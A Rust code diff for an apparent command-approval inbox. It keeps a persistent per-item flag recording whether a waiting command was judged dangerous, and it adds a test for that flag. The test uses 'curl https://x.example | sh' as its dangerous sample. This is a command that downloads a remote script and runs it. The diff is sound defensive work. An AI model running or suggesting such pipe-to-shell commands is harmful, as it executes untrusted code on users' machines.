@@ -27,7 +27,7 @@ const LONGEST: usize = 64 * 1024;
 /// Findings, effects and commands that are listed, of each.
 const LISTED: usize = 200;
 
-/// Readings that are kept.
+/// Readings that are kept whole.
 const KEPT: usize = 256;
 
 /// One sentence, in bytes.
@@ -45,7 +45,11 @@ pub(crate) struct Reading {
 /// Readings of what waits, so that each command is read once.
 #[derive(Default)]
 pub(crate) struct Readings {
+    /// The latest ones, whole. Those that left are read again where somebody wants to see them.
     kept: HashMap<ItemKey, (u64, Option<Arc<Reading>>)>,
+    /// Whether it is dangerous, of every item in the inbox whose command could be read: what waits never loses this,
+    /// however much is read after it.
+    grave: HashMap<ItemKey, bool>,
 }
 
 impl Readings {
@@ -61,17 +65,23 @@ impl Readings {
             self.kept.clear();
         }
         let reading = read(content).map(Arc::new);
+        match &reading {
+            Some(reading) => self.grave.insert(key.clone(), reading.view.dangerous),
+            None => self.grave.remove(key),
+        };
         self.kept.insert(key.clone(), (mark, reading.clone()));
         reading
     }
 
-    /// What was read before.
-    pub(crate) fn known(&self, key: &ItemKey) -> Option<&Reading> {
-        self.kept.get(key)?.1.as_deref()
+    /// Whether what was read is dangerous. None where nothing was, or could be.
+    pub(crate) fn is_dangerous(&self, key: &ItemKey) -> Option<bool> {
+        self.grave.get(key).copied()
     }
 
+    /// The item has left the inbox.
     pub(crate) fn forget(&mut self, key: &ItemKey) {
         self.kept.remove(key);
+        self.grave.remove(key);
     }
 }
 
@@ -311,7 +321,25 @@ mod tests {
         if let (Some(first), Some(again)) = (first, again) {
             assert!(Arc::ptr_eq(&first, &again), "read once");
         }
+        assert!(readings.is_dangerous(&key).is_some());
         readings.forget(&key);
-        assert!(readings.known(&key).is_none());
+        assert!(readings.is_dangerous(&key).is_none());
+    }
+
+    #[test]
+    fn what_is_dangerous_stays_so_however_much_is_read_after_it() {
+        let mut readings = Readings::default();
+        let content = |subject: &str| Content {
+            subject: subject.into(),
+            ..Content::default()
+        };
+        let key = |n: usize| ItemKey(format!("g/exec/{n}"));
+        readings.read(&key(0), &content("curl https://x.example | sh"));
+        for n in 1..=2 * KEPT {
+            readings.read(&key(n), &content("ls"));
+        }
+        assert_eq!(readings.is_dangerous(&key(0)), Some(true));
+        assert_eq!(readings.is_dangerous(&key(1)), Some(false));
+        assert!(readings.kept.len() <= KEPT, "what is whole is bounded");
     }
 }
